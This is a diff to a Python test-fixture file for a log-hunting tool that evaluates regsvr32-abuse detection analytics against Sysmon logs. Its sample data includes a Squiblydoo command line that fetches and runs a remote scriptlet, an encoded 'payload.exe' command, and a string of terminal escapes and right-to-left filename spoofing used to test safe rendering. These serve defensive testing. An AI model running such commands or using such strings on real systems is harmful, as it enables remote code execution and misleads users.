@@ -1,5 +1,6 @@
 """Runs built by hand, one for each thing a page must show well."""
 
+from dataclasses import replace
 from datetime import UTC, datetime
 
 from carhound.findings.run import (
@@ -27,7 +28,10 @@ NEW = "New items since last month"
 SPAWN, SPAWN_P = "Spawning child processes", "Spawning child processes - pseudocode"
 LOAD, LOAD_P = "Loading unsigned images", "Loading unsigned images - pseudocode"
 NAMES = (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P, LOAD, LOAD_P)
-HOSTILE = "cmd /c \x1b[2J\x1b]0;gone\x07 [bold red]x[/] echo \u202etxt.exe\u2066 \u200bzero\nnext\tline \ud800 =1+1 日本語"
+HOSTILE = (
+    "cmd /c \x1b[2J\x1b]0;gone\x07 [bold red]x[/] echo \u202etxt.exe\u2066 "
+    "\u200bzero\nnext\tline \ud800 =1+1 日本語"
+)
 
 INFO = RunInfo(
     command=("hunt", "logs"),
@@ -123,16 +127,25 @@ def analytic(*implementations: ImplementationResult, **changes: object) -> Analy
         "path": "analytics/CAR-2019-04-002.yaml",
         "sha256": "00" * 32,
         "attack": (
-            {"technique": "T1218", "tactics": ["TA0005"], "subtechniques": ["T1218.010"], "coverage": "Low"},
+            {
+                "technique": "T1218",
+                "subtechniques": ("T1218.010",),
+                "tactics": ("TA0005",),
+                "coverage": "Low",
+            },
         ),
-        "d3fend": ({"iri": "d3f:ProcessLineageAnalysis", "id": "D3-PLA", "label": "Process Lineage Analysis"},),
+        "d3fend": (
+            {"id": "D3-PLA", "label": "Process Lineage Analysis", "iri": "d3f:ProcessLineageAnalysis"},
+        ),
         "data_model_references": (("process/create/exe", True), ("process/create/image", False)),
         "implementations": implementations,
     }
     return AnalyticResult(**{**defaults, **changes})  # type: ignore[arg-type]
 
 
-def host(computer: str | None, events: int, one: int, seven: int, judged: tuple[str, ...], **changes: object) -> HostCoverage:
+def host(
+    computer: str | None, events: int, one: int, seven: int, judged: tuple[str, ...], **changes: object
+) -> HostCoverage:
     """A computer of the morning of 2018-12-04."""
     defaults: dict[str, object] = {
         "computer": computer,
@@ -178,7 +191,7 @@ def run(*analytics: AnalyticResult, findings: tuple[Finding, ...] = (), **change
     return Run(**{**defaults, **changes})  # type: ignore[arg-type]
 
 
-def caret(text: str, marked: str, message: str, hint: str | None = None, code: str = "SPL-UNSUPPORTED") -> Diagnostic:
+def caret(text: str, marked: str, message: str, hint: str | None = None, code: str = "SPL-C1") -> Diagnostic:
     """An error about the word `marked` of a text on line 41 of a document."""
     at = text.index(marked)
     source = Source(text, "analytics/CAR-2019-04-002.yaml", 41, 6)
@@ -186,7 +199,7 @@ def caret(text: str, marked: str, message: str, hint: str | None = None, code: s
 
 
 HOLE = Diagnostic(
-    "CAR-2019-04-002-BASELINE-HOLE",
+    "CAR-2019-04-002/D02",
     "the baseline ends 30 days before today: what was seen in the 29 days between is called new",
     "warning",
     Span(0, 4),
@@ -195,14 +208,20 @@ HOLE = Diagnostic(
     3,
 )
 WINDOWS_TEMP = Diagnostic(
-    "CAR-2019-04-002-WINDOWS-TEMP",
+    "CAR-2019-04-002/D19",
     r"ImageLoaded!=C:\Windows\* also hides folders that every user can write to, such as C:\Windows\Temp and"
     r" C:\Windows\Tasks",
     "warning",
     count=2,
 )
 ALIAS = Diagnostic(
-    "ALIAS", "ComputerName was read from Computer, where Sysmon's XML has it", "note", count=4
+    "SPL-A1", "ComputerName was read from Computer, since events have no ComputerName", "note", count=4
+)
+
+BLIND = Diagnostic(
+    "RUN-J1",
+    "not judged on 2 files, where no eligible event carries ParentImage: logs/a.json, logs/b.json",
+    count=40,
 )
 
 WINDOWS = (
@@ -221,18 +240,33 @@ def findings_run() -> Run:
         command="payload.exe " + "-enc " + "QQBCAEMA" * 40,
         implementations=(MAIN_P,),
     )
-    bare = process(22, command=None, computer=None, time=None, native={}, car={"parent_image_path": REGSVR32},
-                   provider="Microsoft-Windows-Security-Auditing", event_id="4688", implementations=(MAIN_P, SPAWN_P))
+    bare = process(
+        22,
+        command=None,
+        computer=None,
+        time=None,
+        native={},
+        car={"parent_image_path": REGSVR32},
+        provider="Microsoft-Windows-Security-Auditing",
+        event_id="4688",
+        implementations=(MAIN_P, SPAWN_P),
+    )
     loaded = module(1)
     spawned = Rows(
         ("Computer Name", "Parent Command Line", "Image", "ImageCount"),
         (
-            (("WS-0042.corp.example", "WS-\x1b[31m7"), ("regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",),
-             r"C:\Windows\System32\calc.exe", 2),
+            (
+                ("WS-0042.corp.example", "WS-\x1b[31m7"),
+                ("regsvr32.exe /s /u /i:http://10.0.0.5/file.sct scrobj.dll",),
+                r"C:\Windows\System32\calc.exe",
+                2,
+            ),
         ),
     )
-    images = Rows(("Computer Name", "ImageLoaded", "ImageLoadedCount"),
-                  ((None, r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll", 1),))
+    images = Rows(
+        ("Computer Name", "ImageLoaded", "ImageLoadedCount"),
+        ((None, r"C:\Users\alice\AppData\Local\Temp\AllTheThingsx86.dll", 1),),
+    )
     result = analytic(
         implementation(MAIN, calc, hostile),
         implementation(MAIN_P, calc, hostile, renamed, bare, eligible=1216),
@@ -242,11 +276,17 @@ def findings_run() -> Run:
         implementation(LOAD, loaded, table=images, eligible=482, diagnostics=(WINDOWS_TEMP, ALIAS)),
         implementation(LOAD_P, loaded, eligible=482, diagnostics=(WINDOWS_TEMP,)),
         twins=(
-            Twins(MAIN, MAIN_P, False, (), (
-                TwinDifference(renamed.id, "regsvr32.exe", r"myregsvr32.exe"),
-                TwinDifference(bare.id, "EventCode=1", "4688"),
-                TwinDifference("77" * 32, 'ParentImage="*regsvr32.exe"', None),
-            )),
+            Twins(
+                MAIN,
+                MAIN_P,
+                False,
+                (),
+                (
+                    TwinDifference(renamed.id, "regsvr32.exe", r"myregsvr32.exe"),
+                    TwinDifference(bare.id, "EventCode=1", "4688"),
+                    TwinDifference("77" * 32, 'ParentImage="*regsvr32.exe"', None),
+                ),
+            ),
             Twins(SPAWN, SPAWN_P, False, (), (TwinDifference(bare.id, "EventCode=1", "4688"),)),
             Twins(LOAD, LOAD_P, True),
         ),
@@ -257,15 +297,30 @@ def findings_run() -> Run:
         hosts=(
             host("WS-0042.corp.example", 21340, 120, 3240, NAMES),
             host("WS-\x1b[31m7", 1204, 40, 0, (MAIN, MAIN_P, NEW, SPAWN, SPAWN_P)),
-            host("DC-01.corp.example", 90412, 0, 0, (MAIN_P, SPAWN_P), security_4688=310, security_4688_with_command_line=0),
+            host(
+                "DC-01.corp.example",
+                90412,
+                0,
+                0,
+                (MAIN_P, SPAWN_P),
+                security_4688=310,
+                security_4688_with_command_line=0,
+            ),
             host("FS-01.corp.example", 812, 0, 0, (), security_4688=0, security_4688_with_command_line=0),
-            host(None, 3, 0, 0, (), first=None, last=None, security_4688=0, security_4688_with_command_line=0),
+            host(
+                None, 3, 0, 0, (), first=None, last=None, security_4688=0, security_4688_with_command_line=0
+            ),
         ),
         evidence=Evidence(
             (
                 file("logs/ws42/Microsoft-Windows-Sysmon%4Operational.evtx", events=21340),
-                file("logs/ws42.zip/sysmon.json", "winlogbeat7", 92000, duplicates=2,
-                     remarks=(Remark("LOCAL-TIME", "times without a zone were read as UTC"),)),
+                file(
+                    "logs/ws42.zip/sysmon.json",
+                    "winlogbeat7",
+                    92000,
+                    duplicates=2,
+                    remarks=(Remark("READ-Z1", "times without a zone were read as UTC"),),
+                ),
             ),
             ("logs/LICENSE", "logs/picture.png"),
         ),
@@ -278,7 +333,10 @@ def quiet_run() -> Run:
         analytic(
             *(implementation(name, eligible=482 if "Load" in name else 120) for name in (MAIN, MAIN_P)),
             implementation(NEW, eligible=120, windows=WINDOWS, outside_window=0, diagnostics=(HOLE,)),
-            *(implementation(name, eligible=482 if "Load" in name else 120) for name in (SPAWN, SPAWN_P, LOAD, LOAD_P)),
+            *(
+                implementation(name, eligible=482 if "Load" in name else 120)
+                for name in (SPAWN, SPAWN_P, LOAD, LOAD_P)
+            ),
             twins=(Twins(MAIN, MAIN_P, True), Twins(SPAWN, SPAWN_P, True), Twins(LOAD, LOAD_P, True)),
         )
     )
@@ -288,41 +346,76 @@ def partial_run() -> Run:
     """Implementations that could not be evaluated, damage, things left out."""
     long = (
         'index=__your_sysmon_data__ EventCode=1 (ParentImage="C:\\\\Windows\\\\System32\\\\regsvr32.exe" OR '
-        'ParentImage="C:\\\\Windows\\\\SysWOW64\\\\regsvr32.exe") | eval x=1 | transaction Image maxspan=5m | '
-        "stats values(ComputerName) as \"Computer Name\" by Image"
+        'ParentImage="C:\\\\Windows\\\\SysWOW64\\\\regsvr32.exe") | eval x=1 '
+        '| transaction Image maxspan=5m | stats values(ComputerName) as "Computer Name" by Image'
     )
-    unsupported = caret(long, "transaction", "the command `transaction` is not supported",
-                        "the commands there are: search, where, stats, table, rename, sort, head, top, regex")
-    label = Diagnostic("LANGUAGE-UNKNOWN", 'carhound does not run "LogPoint" texts', "error",
-                       hint="SPL and pseudocode are run; the others are listed only")
-    joined = caret("日本\tx = join (a, b) where (\n  a.pid == b.ppid )", "join", "`join` is parsed but not evaluated",
-                   code="PSEUDO-UNSUPPORTED")
+    unsupported = caret(
+        long,
+        "transaction",
+        "the command `transaction` is not supported",
+        "the commands there are: search, where, stats, table, rename, sort, head, top, regex",
+    )
+    label = Diagnostic(
+        "DOC-L1",
+        'carhound does not run "LogPoint" texts',
+        "error",
+        hint="SPL and pseudocode are run; the others are listed only",
+    )
+    joined = caret(
+        "日本\tx = join (a, b) where (\n  a.pid == b.ppid )",
+        "join",
+        "`join` is parsed but not evaluated",
+        code="PSC-N1",
+    )
     damage = tuple(Damage(f"chunk {n}", "its checksum does not match", 4096 + 65536 * n) for n in range(9))
     reasons = (
-        "logs/nowhere: no such path",
-        "logs/broken.evtx: 9 parts could not be read",
-        "Main Pattern (spl): not evaluated",
+        "no such path: logs/nowhere",
+        "10 damaged parts in 2 files",
+        "CAR-2019-04-002: 'Main Pattern' was not evaluated",
     )
     return run(
         analytic(
             implementation(MAIN, status="not-evaluated", eligible=0, diagnostics=(unsupported,)),
-            implementation(MAIN_P, eligible=120, not_judged=("logs/a.json", "logs/b.json")),
-            implementation("implementation 3 (LogPoint)", language="LogPoint", status="not-evaluated",
-                           eligible=0, diagnostics=(label,)),
+            implementation(
+                MAIN_P, eligible=120, not_judged=("logs/a.json", "logs/b.json"), diagnostics=(BLIND,)
+            ),
+            implementation(
+                "implementation 3 (LogPoint)",
+                language="LogPoint",
+                status="not-evaluated",
+                eligible=0,
+                diagnostics=(label,),
+            ),
             implementation("Joined - pseudocode", status="not-evaluated", eligible=0, diagnostics=(joined,)),
             implementation(LOAD, eligible=0),
         ),
         status="partial",
         reasons=reasons,
-        hosts=tuple(host(f"WS-{n:04d}", 1000 + n, n % 2 * 40, 0, (MAIN_P,) if n % 2 else ()) for n in range(60)),
+        hosts=tuple(
+            host(f"WS-{n:04d}", 1000 + n, n % 2 * 40, 0, (MAIN_P,) if n % 2 else ()) for n in range(12)
+        ),
         evidence=Evidence(
             (
                 file("logs/broken.evtx", damaged=damage),
-                file("logs/other.evtx", damaged=(Damage("record 463011", "cut short"),)),
-                file("logs/inner.zip", None, 0, skipped=(Skipped("deep.zip", "an archive in an archive"),
-                                                         Skipped("secret.evtx", "encrypted"))),
-                file("logs/System.evtx", "evtx", 310, eligible=0,
-                     skipped=(Skipped("", "not applicable: no process events in a System log", partial=False),)),
+                file("logs/other.evtx", damaged=(Damage("record 463011", "cut short \x1b[31m"),)),
+                file(
+                    "logs/inner.zip",
+                    None,
+                    0,
+                    skipped=(
+                        Skipped("deep.zip", "an archive in an archive"),
+                        Skipped("secret.evtx", "encrypted"),
+                    ),
+                ),
+                file(
+                    "logs/System.evtx",
+                    "evtx",
+                    310,
+                    eligible=0,
+                    skipped=(
+                        Skipped("", "not applicable: no process events in a System log", partial=False),
+                    ),
+                ),
             ),
             tuple(f"logs/pictures/{n}.png" for n in range(30)),
             ("logs/nowhere",),
@@ -330,12 +423,26 @@ def partial_run() -> Run:
     )
 
 
+def many_run() -> Run:
+    """More events and hosts than a page lists."""
+    found = tuple(
+        process(n % 60, id=f"{n:064x}", time=time(f"2018-12-04T{n // 60:02d}:{n % 60:02d}"))
+        for n in range(450)
+    )
+    hosts = tuple(host(f"WS-{n:04d}", 1, 1, 0, (MAIN,)) for n in range(120))
+    return run(analytic(implementation(MAIN, *found)), findings=found, hosts=hosts)
+
+
 def nothing_eligible_run() -> Run:
     """Logs without a single event that a pattern could judge."""
     return run(
-        analytic(implementation(MAIN, eligible=0), implementation(MAIN_P, eligible=0), implementation(LOAD, eligible=0)),
+        analytic(
+            implementation(MAIN, eligible=0),
+            implementation(MAIN_P, eligible=0),
+            implementation(LOAD, eligible=0),
+        ),
         status="nothing-eligible",
-        reasons=("no event was eligible for any implementation",),
+        reasons=("no event read could have matched any implementation",),
         hosts=(host("FS-01", 310, 0, 0, (), security_4688=0, security_4688_with_command_line=0),),
         evidence=Evidence((file("logs/System.evtx", events=310, eligible=0),), ()),
     )
@@ -343,15 +450,16 @@ def nothing_eligible_run() -> Run:
 
 def backfill_run() -> Run:
     """One run for each day, two analytics, hashes."""
-    from dataclasses import replace
-
     calc = process(12, days=("2018-12-04", "2018-12-05"), implementations=(NEW,))
     last = tuple(
-        replace(window, earliest=time("2018-12-05T00:00"), latest=time("2018-12-06T00:00")) for window in WINDOWS
+        replace(window, earliest=time("2018-12-05T00:00"), latest=time("2018-12-06T00:00"))
+        for window in WINDOWS
     )
     return run(
         analytic(implementation(NEW, calc, windows=(*WINDOWS, *last), outside_window=0)),
-        analytic(implementation("implementation 1 (spl)"), id="CAR-2019-04-003", title="Squiblydoo", d3fend=()),
+        analytic(
+            implementation("implementation 1 (spl)"), id="CAR-2019-04-003", title="Squiblydoo", d3fend=()
+        ),
         findings=(calc,),
         info=replace(INFO, backfill=True, tz="Europe/Berlin", reading="corrected"),
         evidence=Evidence((file("logs/a.evtx", sha256="5a" * 32), file("logs/b.evtx", sha256="a5" * 32)), ()),
@@ -373,7 +481,9 @@ def search_run() -> Run:
 def wide_search_run() -> Run:
     """A search whose rows are whole events."""
     fields = {f"Field{n:02d}": f"value {n}" for n in range(18)} | {"CommandLine": HOSTILE, "Image": REGSVR32}
-    rows = Rows(tuple(fields), (tuple(fields.values()), tuple("x" if n % 2 else None for n in range(len(fields)))))
+    rows = Rows(
+        tuple(fields), (tuple(fields.values()), tuple("x" if n % 2 else None for n in range(len(fields))))
+    )
     return run(results=rows)
 
 
